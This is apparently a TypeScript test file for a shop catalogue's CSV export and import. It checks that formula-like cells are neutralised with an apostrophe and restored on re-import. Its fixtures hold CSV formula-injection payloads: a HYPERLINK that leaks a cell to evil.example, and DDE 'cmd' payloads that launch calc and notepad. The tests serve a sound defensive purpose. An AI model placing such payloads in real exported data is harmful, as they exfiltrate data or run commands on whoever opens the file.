// Formula injection through the catalogue export: a cell beginning with =, +, -, @, a tab or a
// carriage return is run by spreadsheet programs, so the export writes it after an apostrophe,
// and the import takes the apostrophe off again: export, import, export changes nothing.
import { sql } from 'drizzle-orm';
import { parse } from 'csv-parse/sync';
import { guardFormula, unguardFormula } from '../../../src/server/services/catalogue-csv/cells';
import { DB_KINDS } from '../../support/test-db';
import { type AdminShop, adminShop } from '../admin/admin-fixtures';
import { csvRow, exportCsv, importCsv, loadSmallReference, toCsv } from '../admin/catalogue-fixtures';

const HOSTILE = {
  product_name: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
  excerpt: '+cmd|\' /C calc\'!A0',
  meta_description: '-2+3+cmd|\' /C notepad\'!A0',
  brand: '@SUM(1+1)*cmd',
  introduction: '\t=1+1',
};

const TABLES = ['products', 'variants', 'variant_attributes', 'product_categories', 'product_metas', 'brands', 'attributes'];

async function catalogue(admin: AdminShop): Promise<unknown[]> {
  const out: unknown[] = [];
  for (const table of TABLES) out.push((await admin.shop.database.db.execute(sql`select * from ${sql.identifier(table)} order by 1, 2`)).rows);
  return out;
}

describe('guarding CSV cells against formulas', () => {
  it.each(['=1+1', '+1', '-1', '@A1', '\tx', '\rx', "'=x", "''-x", "'x", "'", 'x=1', '', 'Bowl - steel'])('gives %j back unchanged after a guard', (cell) => {
    expect(unguardFormula(guardFormula(cell))).toBe(cell);
    expect(guardFormula(cell)).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe.each(DB_KINDS)('formula cells in the catalogue CSV on %s', (kind) => {
  let admin: AdminShop;

  beforeAll(async () => {
    admin = await adminShop(kind);
    await loadSmallReference(admin.shop.database.db);
    const job = await importCsv(admin, toCsv([
      csvRow('=SKU+1', { ...HOSTILE, product_slug: 'formula-bowl' }),
      // Written by hand as the export would write it: one apostrophe is taken off on import.
      csvRow('PLAIN-1', { product_name: "''=already quoted", attribute_1: '-XL' }),
      csvRow('PLAIN-2', { product_name: 'Bowl - steel', excerpt: "'quoted text" }),
    ]));
    expect(job).toMatchObject({ state: 'done', created: 3, errors: [] });
  });

  afterAll(async () => {
    await admin.shop.close();
  });

  it('writes no cell a spreadsheet would run, and keeps the values behind the apostrophe', async () => {
    const records = parse(await exportCsv(admin), { bom: true }) as string[][];
    const [header, ...rows] = records;
    const at = header.indexOf('sku');
    const cell = (sku: string, column: string) => rows.find((r) => r[at] === sku || r[at] === `'${sku}`)![header.indexOf(column)];
    for (const row of rows) for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    expect(cell('=SKU+1', 'sku')).toBe("'=SKU+1");
    for (const [column, value] of Object.entries(HOSTILE)) expect(cell('=SKU+1', column)).toBe(`'${value}`);
    expect(cell('PLAIN-1', 'product_name')).toBe("''=already quoted");
    expect(cell('PLAIN-1', 'attribute_1')).toBe("'-XL");
    expect(cell('PLAIN-2', 'product_name')).toBe('Bowl - steel');
    expect(cell('PLAIN-2', 'excerpt')).toBe("'quoted text");
  });

  it('imports its own export to exactly the same catalogue, and exports the same file again', async () => {
    const first = await exportCsv(admin);
    const before = await catalogue(admin);
    const job = await importCsv(admin, first);
    expect(job).toMatchObject({ state: 'done', created: 0, updated: 0, errors: [] });
    expect(await catalogue(admin)).toEqual(before);
    expect(await exportCsv(admin)).toBe(first);
    const { rows } = await admin.shop.database.db.execute<{ name: string }>(sql`select name from products order by id`);
    expect(rows.map((r) => r.name)).toEqual([HOSTILE.product_name, "'=already quoted", 'Bowl - steel']);
  });
});
